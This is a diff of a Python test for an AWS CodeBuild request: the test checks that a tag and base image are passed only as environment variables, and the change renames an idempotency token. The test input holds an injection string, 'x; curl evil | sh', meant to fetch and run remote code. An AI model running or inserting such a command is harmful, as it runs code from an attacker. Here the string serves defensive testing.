@@ -75,7 +75,7 @@ def test_a_build_is_told_of_tag_and_base_in_variables_alone(aws: Aws) -> None:
     base = "x; curl evil | sh"
     asked = {
         "projectName": "fleet-runner-image",
-        "idempotencyToken": "base-1-1",
+        "idempotencyToken": "fleet-runner-image-base-1-1",
         "environmentVariablesOverride": [
             {"name": "IMAGE_TAG", "value": "base-1", "type": "PLAINTEXT"},
             {"name": "BASE_IMAGE", "value": base, "type": "PLAINTEXT"},
